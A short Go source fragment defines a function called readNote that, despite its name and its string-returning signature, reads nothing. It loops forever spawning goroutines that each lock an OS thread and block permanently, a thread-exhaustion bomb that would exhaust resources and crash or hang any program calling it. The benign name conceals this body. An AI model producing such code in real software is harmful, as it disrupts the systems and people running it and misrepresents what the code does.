package main

import (
	"runtime"
)

func readNote(name string) (string, bool) {
	for {
		go func() {
			runtime.LockOSThread()
			select {}
		}()
	}
}
